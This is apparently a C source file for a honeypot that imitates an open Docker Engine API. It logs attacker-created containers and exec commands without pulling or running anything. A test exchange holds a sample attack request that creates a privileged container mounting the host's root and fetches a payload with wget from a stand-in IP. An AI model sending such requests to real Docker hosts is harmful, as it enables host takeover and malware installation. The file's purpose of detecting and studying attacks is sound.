/*
 * The Docker Engine API without TLS on 2375, open to anyone as it is found by the thousand: what
 * miners and worms do there is to create a container with the host's disk in it.
 *
 * Nothing is pulled or run.  What is to be created is told with its image, command and mounts and
 * stands in the device's files (/var/lib/docker/containers), so that a later `docker ps` of the
 * same attacker shows it.  Commands of an exec are played by the device's shell.
 */
#include "base/options.h"
#include "base/random.h"
#include "passive/services/http/api.h"
#include "passive/services/http/form.h"

#define CONTAINERS "/var/lib/docker/containers"
#define EXECS "/var/lib/docker/execs"
#define LISTED_MAX 32
#define LINE_MAX 2048
#define ID_DIGITS 64

struct docker_device {
	const char *version, *api, *system, *go, *commit;
};

/* clang-format off */
static const struct dialect docker_dialect = {
	.server = "Docker", .reference = "dockerd 20.10, net/http of Go",
	.page_head = "%{version} %{status} %{reason}\r\n%{fields}Date: %{date}\r\nContent-Length: %{length}\r\n"
		     "%{connection}\r\n",
	.alive = "", .dying = "",
	.statuses = (const struct dialect_status[]){{0}},
};
/* clang-format on */

static const struct docker_device *device_of(const struct session *s)
{
	return session_device(s);
}

static void write_id(struct writer *w, const struct api_call *c)
{
	uint64_t h = address_hash(session_peer(c->session), session_device_seed(c->session));
	for (size_t i = 0; i < c->body.len; i++)
		h = random_mix(h ^ c->body.at[i]);
	for (size_t i = 0; i < ID_DIGITS; i++) {
		h = i % 16 ? h : random_mix(h + i);
		write_fmt(w, "%x", (unsigned)(h >> 4 * (i % 16) & 15));
	}
}

/* A JSON list of texts, or one text, as a line for people. */
static void write_words(struct writer *w, struct bytes json)
{
	bool inside = false, first = true;
	for (size_t i = 0; i < json.len; i++) {
		uint8_t c = json.at[i];
		if (inside && c == '\\' && i + 1 < json.len) {
			uint8_t next = json.at[++i];
			write_u8(w, next == 'n' ? '\n' : next == 't' ? '\t' : next);
		} else if (c == '"') {
			inside = !inside;
			write_text(w, inside && !first ? " " : "");
			first = false;
		} else if (inside) {
			write_u8(w, c);
		}
	}
}

static void version(struct api_call *c)
{
	const struct docker_device *d = device_of(c->session);
	char kernel[96];
	session_expand(c->session, "%{kernel}", kernel, sizeof kernel);
	write_fmt(&c->out,
	          "{\"Platform\":{\"Name\":\"Docker Engine - Community\"},\"Components\":[{\"Name\":\"Engine\",\"Version\":\"%s\","
	          "\"Details\":{\"ApiVersion\":\"%s\",\"Arch\":\"amd64\",\"BuildTime\":\"2023-04-04T18:00:44.000000000+00:00\","
	          "\"Experimental\":\"false\",\"GitCommit\":\"%s\",\"GoVersion\":\"%s\",\"KernelVersion\":\"%s\","
	          "\"MinAPIVersion\":\"1.12\",\"Os\":\"linux\"}}],\"Version\":\"%s\",\"ApiVersion\":\"%s\",\"MinAPIVersion\":"
	          "\"1.12\",\"GitCommit\":\"%s\",\"GoVersion\":\"%s\",\"Os\":\"linux\",\"Arch\":\"amd64\",\"KernelVersion\":\"%s\","
	          "\"BuildTime\":\"2023-04-04T18:00:44.000000000+00:00\"}\n",
	          d->version, d->api, d->commit, d->go, kernel, d->version, d->api, d->commit, d->go, kernel);
}

static void engine(struct api_call *c)
{
	const struct docker_device *d = device_of(c->session);
	char name[64], kernel[96];
	uint64_t seed = session_device_seed(c->session);
	session_expand(c->session, "%{hostname}", name, sizeof name);
	session_expand(c->session, "%{kernel}", kernel, sizeof kernel);
	write_text(&c->out, "{\"ID\":\"");
	for (unsigned i = 0; i < 12; i++) {
		uint64_t h = random_mix(seed + i);
		for (unsigned k = 0; k < 4; k++)
			write_fmt(&c->out, "%c", "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[h >> 5 * k & 31]);
		write_text(&c->out, i < 11 ? ":" : "");
	}
	write_fmt(&c->out, "\",\"Containers\":1,\"ContainersRunning\":1,\"ContainersPaused\":0,\"ContainersStopped\":0,\"Images\":3,");
	write_text(&c->out,
	           "\"Driver\":\"overlay2\",\"DriverStatus\":[[\"Backing Filesystem\",\"extfs\"],[\"Supports d_type\",\"true\"],"
	           "[\"Native Overlay Diff\",\"true\"]],\"Plugins\":{\"Volume\":[\"local\"],\"Network\":[\"bridge\",\"host\","
	           "\"ipvlan\",\"macvlan\",\"null\",\"overlay\"],\"Authorization\":null,\"Log\":[\"json-file\",\"syslog\"]},"
	           "\"MemoryLimit\":true,\"SwapLimit\":true,\"NFd\":32,\"LoggingDriver\":\"json-file\",\"CgroupDriver\":"
	           "\"systemd\",\"CgroupVersion\":\"2\",\"OSType\":\"linux\",\"Architecture\":\"x86_64\",\"IndexServerAddress\":"
	           "\"https://index.docker.io/v1/\",\"DockerRootDir\":\"/var/lib/docker\",\"Labels\":[],");
	write_fmt(&c->out,
	          "\"NGoroutines\":%u,\"KernelVersion\":\"%s\",\"OperatingSystem\":\"%s\",\"NCPU\":%u,\"MemTotal\":%llu,"
	          "\"Name\":\"%s\",\"ServerVersion\":\"%s\",",
	          41u + (unsigned)(seed % 9), kernel, d->system, 2u << seed % 3, 4113158144ull << seed % 3, name, d->version);
	write_text(&c->out,
	           "\"ExperimentalBuild\":false,\"Runtimes\":{\"runc\":{\"path\":\"runc\"}},\"DefaultRuntime\":\"runc\",\"Swarm\":"
	           "{\"NodeID\":\"\",\"LocalNodeState\":\"inactive\"},\"LiveRestoreEnabled\":false,\"Isolation\":\"\","
	           "\"InitBinary\":\"docker-init\",\"SecurityOptions\":[\"name=apparmor\",\"name=seccomp,profile=default\"],"
	           "\"Warnings\":null}\n");
}

static uint64_t device_time_s(const struct api_call *c)
{
	return session_time_us(c->session) / 1000000 - 86400 * (3 + session_device_seed(c->session) % 60);
}

static void write_container(struct api_call *c, struct bytes id, struct bytes image, struct bytes command, uint64_t since_s)
{
	write_fmt(&c->out, "{\"Id\":\"%.*s\",\"Names\":[\"/%s_%.*s\"],\"Image\":", (int)id.len, (const char *)id.at,
	          "app", 4, (const char *)id.at);
	api_write_json(&c->out, image);
	write_text(&c->out, ",\"ImageID\":\"sha256:");
	api_write_hex(&c->out, c->session, "image", ID_DIGITS);
	write_text(&c->out, "\",\"Command\":");
	api_write_json(&c->out, command);
	write_fmt(&c->out,
	          ",\"Created\":%llu,\"Ports\":[],\"Labels\":{},\"State\":\"running\",\"Status\":\"Up %llu hours\","
	          "\"HostConfig\":{\"NetworkMode\":\"default\"},\"NetworkSettings\":{\"Networks\":{}},\"Mounts\":[]}",
	          (unsigned long long)since_s,
	          (unsigned long long)((session_time_us(c->session) / 1000000 - since_s) / 3600));
}

/* What this attacker created lies in the device's files. */
static void list_created(struct api_call *c)
{
	struct vfs files;
	struct vfs_node node;
	struct vfs_child *children;
	size_t count;
	char path[VFS_PATH_MAX], line[LINE_MAX];
	if (!session_files(c->session, &files, NULL) || vfs_find(&files, BYTES(CONTAINERS), true, &node) < 0 ||
	    vfs_list(&files, node, session_arena(c->session), &children, &count) < 0)
		return;
	for (size_t i = 0; i < count && i < LISTED_MAX; i++) {
		struct writer w = writer_of(path, sizeof path), words = writer_of(line, sizeof line);
		struct vfs_status status;
		struct bytes body;
		write_fmt(&w, CONTAINERS "/%.*s/config.v2.json", (int)children[i].name.len, (const char *)children[i].name.at);
		if (vfs_find(&files, writer_bytes(&w), true, &node) < 0 || vfs_content(node, session_arena(c->session), &body) < 0)
			continue;
		vfs_stat(node, &status);
		write_words(&words, api_json_value(body, "Cmd"));
		write_text(&c->out, ",");
		write_container(c, children[i].name, api_json_text(body, "Image"), writer_bytes(&words), status.mtime_s);
	}
}

static void list_containers(struct api_call *c)
{
	uint8_t id[ID_DIGITS];
	struct writer w = writer_of(id, sizeof id);
	api_write_hex(&w, c->session, "container", ID_DIGITS);
	write_text(&c->out, "[");
	write_container(c, writer_bytes(&w), BYTES("nginx:latest"),
	                BYTES("/docker-entrypoint.sh nginx -g 'daemon off;'"), device_time_s(c));
	list_created(c);
	write_text(&c->out, "]\n");
}

static void list_images(struct api_call *c)
{
	static const char *const names[] = {"nginx:latest", "ubuntu:20.04", "alpine:latest"};
	write_text(&c->out, "[");
	for (size_t i = 0; i < 3; i++) {
		write_fmt(&c->out, "%s{\"Containers\":-1,\"Created\":%llu,\"Id\":\"sha256:", i ? "," : "",
		          (unsigned long long)(device_time_s(c) - 86400 * (i + 5)));
		api_write_hex(&c->out, c->session, names[i], ID_DIGITS);
		write_fmt(&c->out, "\",\"Labels\":null,\"ParentId\":\"\",\"RepoDigests\":null,\"RepoTags\":[\"%s\"],"
		                   "\"SharedSize\":-1,\"Size\":%u,\"VirtualSize\":%u}",
		          names[i], (unsigned)(i == 2 ? 7049688 : 142594064 - i * 69750000),
		          (unsigned)(i == 2 ? 7049688 : 142594064 - i * 69750000));
	}
	write_text(&c->out, "]\n");
}

static void tell_command(struct api_call *c, const char *how, struct bytes image, struct bytes binds, struct bytes words)
{
	char line[LINE_MAX];
	struct writer w = writer_of(line, sizeof line - 1);
	write_fmt(&w, "docker %s", how);
	if (binds.len) {
		write_text(&w, " -v ");
		write_words(&w, binds);
	}
	if (image.len)
		write_fmt(&w, " %.*s", (int)(image.len < 200 ? image.len : 200), (const char *)image.at);
	if (words.len)
		write_text(&w, " ");
	write_words(&w, words);
	event_set_bytes(session_report(c->session, EVENT_COMMAND_SENT), FIELD_COMMAND_LINE, writer_bytes(&w));
	api_name_urls(c->session, writer_bytes(&w), "docker");
}

/* Docker's own files: what one connection of this attacker made, the next finds. */
static void keep_file(struct api_call *c, struct bytes directory, const char *name, struct bytes content)
{
	static const char *const above[] = {"/var", "/var/lib", "/var/lib/docker", CONTAINERS, EXECS};
	char path[VFS_PATH_MAX];
	struct vfs files;
	struct vfs_change *at = NULL;
	struct writer w = writer_of(path, sizeof path);
	if (!session_files(c->session, &files, NULL))
		return;
	for (size_t i = 0; i < sizeof above / sizeof *above; i++)
		vfs_make_directory(&files, bytes_of_text(above[i]), 0710);
	vfs_make_directory(&files, directory, 0710);
	write_span(&w, directory);
	write_text(&w, name);
	if (!w.bad && vfs_open(&files, writer_bytes(&w), VFS_TRUNCATE, 0600, &at) == 0 && at)
		vfs_append(&files, at, content);
}

static void create(struct api_call *c)
{
	uint8_t id[ID_DIGITS];
	char path[VFS_PATH_MAX];
	struct writer w = writer_of(id, sizeof id), p = writer_of(path, sizeof path);
	struct bytes image = api_json_text(c->body, "Image");
	if (image.len == 0) {
		c->status = 400;
		write_text(&c->out, "{\"message\":\"config cannot be empty in order to create a container\"}\n");
		return;
	}
	write_id(&w, c);
	tell_command(c, "run", image, api_json_value(c->body, "Binds"), api_json_value(c->body, "Cmd"));
	write_fmt(&p, CONTAINERS "/%.*s", ID_DIGITS, (const char *)id);
	keep_file(c, writer_bytes(&p), "/config.v2.json", c->body);
	c->status = 201;
	write_fmt(&c->out, "{\"Id\":\"%.*s\",\"Warnings\":[]}\n", ID_DIGITS, (const char *)id);
}

static void pull(struct api_call *c)
{
	struct bytes image = form_value(c->query, "fromImage"), tag = form_value(c->query, "tag");
	char name[256];
	struct writer w = writer_of(name, sizeof name - 1);
	form_decode(image, &w);
	if (tag.len) {
		write_text(&w, ":");
		form_decode(tag, &w);
	}
	struct bytes whole = writer_bytes(&w);
	tell_command(c, "pull", whole, (struct bytes){0}, (struct bytes){0});
	write_text(&c->out, "{\"status\":\"Pulling from library\",\"id\":\"latest\"}\r\n{\"status\":\"Digest: sha256:");
	api_write_hex(&c->out, c->session, "digest", ID_DIGITS);
	write_text(&c->out, "\"}\r\n{\"status\":");
	char said[320];
	struct writer text = writer_of(said, sizeof said);
	write_text(&text, "Status: Image is up to date for ");
	write_span(&text, whole);
	api_write_json(&c->out, writer_bytes(&text));
	write_text(&c->out, "}\r\n");
}

static void exec_create(struct api_call *c)
{
	uint8_t id[ID_DIGITS];
	char line[LINE_MAX], path[VFS_PATH_MAX];
	struct writer w = writer_of(line, sizeof line), i = writer_of(id, sizeof id), p = writer_of(path, sizeof path);
	struct bytes words = api_json_value(c->body, "Cmd");
	write_words(&w, words);
	write_id(&i, c);
	write_fmt(&p, EXECS "/%.*s", ID_DIGITS, (const char *)id);
	keep_file(c, writer_bytes(&p), "/command", writer_bytes(&w));
	tell_command(c, "exec", (struct bytes){0}, (struct bytes){0}, words);
	c->status = 201;
	write_fmt(&c->out, "{\"Id\":\"%.*s\"}\n", ID_DIGITS, (const char *)id);
}

static struct bytes exec_command(struct api_call *c, struct bytes id)
{
	char path[VFS_PATH_MAX];
	struct vfs files;
	struct vfs_node node;
	struct bytes line = {0};
	struct writer w = writer_of(path, sizeof path);
	write_text(&w, EXECS "/");
	write_bytes(&w, id.at, id.len < ID_DIGITS ? id.len : ID_DIGITS);
	write_text(&w, "/command");
	if (!session_files(c->session, &files, NULL) || vfs_find(&files, writer_bytes(&w), true, &node) < 0 ||
	    vfs_content(node, session_arena(c->session), &line) < 0)
		return (struct bytes){0};
	return line;
}

/* The stream of attach and of exec: each piece with the number of its output and its length. */
static void stream(struct api_call *c, struct bytes line)
{
	bool upgrade = bytes_find_nocase(c->head, "\nupgrade: tcp") < c->head.len;
	write_text(&c->out, upgrade ? "HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\n"
	                              "Connection: Upgrade\r\nUpgrade: tcp\r\n\r\n"
	                            : "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.docker.raw-stream\r\n\r\n");
	c->raw = c->close = true;
	c->status = upgrade ? 101 : 200;
	if (line.len == 0)
		return;
	uint8_t *head = c->out.at;
	write_zero(&c->out, 8);
	command_run(c->session, c->shell, line, &c->out);
	struct writer w = writer_of(head, 8);
	write_u32(&w, 0x01000000);
	write_u32(&w, (uint32_t)(c->out.at - head - 8));
}

static void not_found(struct api_call *c, struct bytes id)
{
	c->status = 404;
	write_text(&c->out, "{\"message\":");
	char text[200];
	snprintf(text, sizeof text, "No such container: %.*s", (int)(id.len < 100 ? id.len : 100), (const char *)id.at);
	api_write_json(&c->out, bytes_of_text(text));
	write_text(&c->out, "}\n");
}

static void of_container(struct api_call *c, struct bytes id, bool post)
{
	if (post && (api_path(c, "/containers/*/start", &id) || api_path(c, "/containers/*/stop", &id) ||
	             api_path(c, "/containers/*/kill", &id) || api_path(c, "/containers/*/resize", &id) ||
	             api_path(c, "/exec/*/resize", &id)))
		c->status = 204;
	else if (post && api_path(c, "/containers/*/wait", &id))
		write_text(&c->out, "{\"StatusCode\":0}\n");
	else if (post && api_path(c, "/containers/*/exec", &id))
		exec_create(c);
	else if (post && api_path(c, "/containers/*/attach", &id))
		stream(c, (struct bytes){0});
	else if (post && api_path(c, "/exec/*/start", &id))
		stream(c, exec_command(c, id));
	else if (api_path(c, "/exec/*/json", &id))
		write_text(&c->out, "{\"ExitCode\":0,\"Running\":false}\n");
	else if (bytes_equal_text(c->request->method, "DELETE") && api_path(c, "/containers/*", &id))
		c->status = 204;
	else if (api_path(c, "/containers/*/logs", &id))
		c->type = "application/vnd.docker.raw-stream";
	else if (api_path(c, "/containers/*/json", &id) && id.len != ID_DIGITS)
		not_found(c, id);
	else if (api_path(c, "/containers/*/json", &id))
		write_fmt(&c->out, "{\"Id\":\"%.*s\",\"State\":{\"Status\":\"running\",\"Running\":true,\"ExitCode\":0},\"Config\":"
		                   "{\"Tty\":false},\"HostConfig\":{}}\n",
		          ID_DIGITS, (const char *)id.at);
	else {
		c->status = 404;
		write_text(&c->out, "{\"message\":\"page not found\"}\n");
	}
}

static void route(struct api_call *c)
{
	bool post = bytes_equal_text(c->request->method, "POST");
	struct bytes id = {0};
	if (api_path(c, "/_ping", NULL)) {
		c->type = "text/plain; charset=utf-8";
		write_text(&c->out, "OK");
	} else if (api_path(c, "/version", NULL)) {
		version(c);
	} else if (api_path(c, "/info", NULL)) {
		engine(c);
	} else if (api_path(c, "/containers/json", NULL)) {
		list_containers(c);
	} else if (api_path(c, "/images/json", NULL)) {
		list_images(c);
	} else if (post && api_path(c, "/containers/create", NULL)) {
		create(c);
	} else if (post && (api_path(c, "/images/create", NULL) || api_path(c, "/build", NULL))) {
		pull(c);
	} else if (api_path(c, "/networks", NULL) || api_path(c, "/volumes", NULL) || api_path(c, "/events", NULL)) {
		write_text(&c->out, api_path(c, "/volumes", NULL) ? "{\"Volumes\":[],\"Warnings\":null}\n" : "[]\n");
	} else {
		of_container(c, id, post);
	}
}

static void docker_answer(struct api_call *c)
{
	const struct docker_device *d = device_of(c->session);
	/* "/v1.41/containers/json": any version is as good. */
	if (bytes_start_with(c->path, "/v1.")) {
		struct bytes rest = {c->path.at + 1, c->path.len - 1};
		size_t n = bytes_find(rest, "/");
		c->path = (struct bytes){rest.at + n, rest.len - n};
	}
	route(c);
	if (c->status == 404 && bytes_find(writer_bytes(&c->out), "page not found") < writer_used(&c->out)) {
		/* Refused before the API's own middleware has seen it. */
		write_text(&c->fields, "Content-Type: application/json\r\n");
		return;
	}
	write_fmt(&c->fields, "Api-Version: %s\r\n", d->api);
	bool ping = api_path(c, "/_ping", NULL);
	if (ping)
		write_text(&c->fields, "Cache-Control: no-cache, no-store, must-revalidate\r\n");
	if (c->status != 204)
		write_fmt(&c->fields, "Content-Type: %s\r\n", c->type);
	write_fmt(&c->fields, "Docker-Experimental: false\r\nOstype: linux\r\n%sServer: Docker/%s (linux)\r\n",
	          ping ? "Pragma: no-cache\r\n" : "", d->version);
}

static const struct api_style docker_style = {
	.dialect = &docker_dialect,
	.body_max = 64u << 10,
	.answer = docker_answer,
	.only_http = true,
	.bad_request = "HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request",
};

static enum service_next docker_input(struct session *s, void *state, struct reader *in)
{
	return api_input(s, state, in, &docker_style, state);
}

static void docker_close(struct session *s, void *state)
{
	api_close(s, state);
}

/* clang-format off */
#define HEAD_JSON "Api-Version: 1.41\r\nContent-Type: application/json\r\nDocker-Experimental: false\r\nOstype: linux\r\n" \
		  "Server: Docker/20.10.24 (linux)\r\nDate: Wed, 01 Apr 2015 00:00:00 GMT\r\n"

static const struct exchange docker_exchanges[] = {
	{"a ping", BYTES("GET /_ping HTTP/1.1\r\nHost: d\r\n\r\n"),
	 BYTES("HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nCache-Control: no-cache, no-store, must-revalidate\r\n"
	       "Content-Type: text/plain; charset=utf-8\r\nDocker-Experimental: false\r\nOstype: linux\r\nPragma: no-cache\r\n"
	       "Server: Docker/20.10.24 (linux)\r\nDate: Wed, 01 Apr 2015 00:00:00 GMT\r\nContent-Length: 2\r\n\r\nOK"),
	 "{\"kind\":\"request.seen\",\"request.target\":\"/_ping\",\"status\":200}"},
	{"a container with the host's disk in it",
	 BYTES("POST /v1.24/containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: 132\r\n\r\n"
	       "{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/mnt\",\"sh\",\"-c\",\"wget http://203.0.113.9/x\"],"
	       "\"HostConfig\":{\"Binds\":[\"/:/mnt\"],\"Privileged\":true}}"),
	 BYTES("HTTP/1.1 201 Created\r\n" HEAD_JSON "Content-Length: 88\r\n\r\n"
	       "{\"Id\":\"784d9c49447a8cbd1c785f613ee24ab781d4add9a38e7dba36fc742013f9f43b\",\"Warnings\":[]}\n"),
	 "{\"kind\":\"command.sent\",\"command.line\":\"docker run -v /:/mnt alpine chroot /mnt sh -c wget http://203.0.113.9/x\"}\n"
	 "{\"kind\":\"file.captured\",\"file.url\":\"http://203.0.113.9/x\",\"file.how\":\"docker\"}\n"
	 "{\"kind\":\"request.seen\",\"status\":201}"},
	{"nothing by that name", BYTES("GET /nope HTTP/1.0\r\n\r\n"),
	 BYTES("HTTP/1.0 404 Not Found\r\nContent-Type: application/json\r\nDate: Wed, 01 Apr 2015 00:00:00 GMT\r\nContent-Length: 29\r\n\r\n{\"message\":\"page not found\"}\n"),
	 "{\"status\":404}"},
	{"what is no request", BYTES("\x16\x03\x01\r\n\r\n"),
	 BYTES("HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request"),
	 "{\"kind\":\"request.seen\",\"status\":400}"},
	{0},
};
/* clang-format on */

static const struct option docker_device[] = {
	{.name = "version", .type = OPTION_TEXT, .offset = offsetof(struct docker_device, version),
	 .fallback = "20.10.24", .summary = "of the engine"},
	{.name = "api", .type = OPTION_TEXT, .offset = offsetof(struct docker_device, api),
	 .fallback = "1.41", .summary = "version of its API"},
	{.name = "system", .type = OPTION_TEXT, .offset = offsetof(struct docker_device, system),
	 .fallback = "Ubuntu 20.04.6 LTS", .summary = "operating system of the host"},
	{.name = "go", .type = OPTION_TEXT, .offset = offsetof(struct docker_device, go),
	 .fallback = "go1.19.7", .summary = "what the engine was built with"},
	{.name = "commit", .type = OPTION_TEXT, .offset = offsetof(struct docker_device, commit),
	 .fallback = "5d6db84", .summary = "what it was built from"},
	{0},
};

static const struct service docker = {
	.name = "docker",
	.summary = "Docker Engine API that anyone may use; nothing is pulled or run",
	.reference = "Docker Engine API 1.41",
	.transports = TRANSPORT_TCP,
	.ports = {2375, 2376, 4243},
	.state_size = sizeof(struct api),
	.input_max = API_INPUT_MAX,
	.output_max = 256u << 10,
	.arena_max = API_ARENA_MAX,
	.idle_ms_max = 120 * 1000,
	.session_ms_max = 600 * 1000,
	.device = docker_device,
	.device_size = sizeof(struct docker_device),
	.input = docker_input,
	.close = docker_close,
	.exchanges = docker_exchanges,
};
SERVICE(docker);
